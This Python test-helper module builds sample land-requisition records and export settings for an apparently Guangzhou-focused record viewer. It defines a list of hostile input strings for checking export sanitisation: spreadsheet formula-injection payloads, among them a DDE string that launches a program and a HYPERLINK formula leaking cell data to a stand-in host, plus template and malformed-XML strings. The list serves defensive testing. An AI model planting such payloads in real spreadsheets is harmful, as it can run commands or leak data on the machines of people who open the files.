"""Records with their places for the exporters, and texts that files have been broken with."""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from typing import Any

from hpviewer.exporting.about import ExportAbout
from hpviewer.places.place import Place, PlaceCode
from hpviewer.records.column import Column, SourceKind
from hpviewer.records.filter import RecordFilter
from hpviewer.records.kind import Kind
from hpviewer.records.partial_date import PartialDate
from hpviewer.records.record import LandClass, Record
from hpviewer.records.results import RecordDetail, Sort
from tests.helpers.gazetteer import code_of, gazetteer

HOSTILE = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "'=1+1",
    "''-2",
    '=HYPERLINK("http://x.example/?"&A1,"看")',
    "<r><t>x</t></r>",
    "<r><t>a</t><v></r>",
    "_x0041_",
    '"quoted", with; signs\tand tab',
    "两行\n第二行",
    "{{ 7*7 }} {% raw %} ${x}",
    "<w:t>&amp;</w:t>",
    "مرحبا שלום",
    "🙂👨‍👩‍👧 𠮷",
    "#REF!",
    "0012",
    "1e5",
    "TRUE",
)


def place(name: str) -> Place:
    code = code_of(name)
    return next(one for one in gazetteer().places if one.code == code)


def places() -> dict[PlaceCode, Place]:
    return {one.code: one for one in gazetteer().places}


def record(**values: Any) -> Record:
    """A filled one; give what is to differ."""
    filled = Record(
        id="doc-穗埔府征-2023-33",
        column=Column.LAND,
        kind=Kind.NOTICE,
        title="征收土地公告",
        doc_number="穗埔府征〔2023〕33号",
        approval_number="粤府土审(02)〔2023〕175号",
        issuer="广州市黄埔区人民政府",
        published=PartialDate(2023, 9, 28),
        approved=PartialDate(2023, 9),
        notice_from=PartialDate(2023, 9, 28),
        notice_to=PartialDate(2023, 10, 27),
        project="2023年度第五批次城镇建设用地",
        location="东至甲路，南至乙路，西至丙涌，北至丁村",
        area_ha=0.4976,
        land_classes=(
            LandClass("农用地", 0.0365, (LandClass("林地", 0.0365),)),
            LandClass("建设用地", 0.4611),
        ),
        owners=("文冲第六股份经济合作社", "文冲第七股份经济合作社"),
        place_as_written="文冲街文冲社区",
        source_kind=SourceKind.GOVERNMENT,
        source_name="黄埔区人民政府网站",
        source_url="http://www.hp.example.cn/post_9420952.html",
        note="附图一张",
        flags=("公顷与亩不符",),
    )
    return replace(filled, **values)


def detail(*communities: str, towns: tuple[str, ...] | None = None, **values: Any) -> RecordDetail:
    """In the communities of these names; in their towns unless others are given."""
    inside = tuple(map(place, communities))
    known = places()
    around = (
        tuple(map(place, towns))
        if towns is not None
        else tuple({one.town_code: known[one.town_code] for one in inside}.values())
    )
    made = record(
        towns=tuple(one.code for one in around), communities=tuple(one.code for one in inside), **values
    )
    return RecordDetail(made, around, inside, ())


def about(filter: RecordFilter | None = None, **values: Any) -> ExportAbout:
    settings: dict[str, Any] = {
        "sort": Sort(),
        "places": places(),
        "data_date": "2024-01-05",
        "schematic": True,
        "made_on": dt.date(2024, 3, 1),
    }
    return ExportAbout(filter=filter or RecordFilter(), **(settings | values))
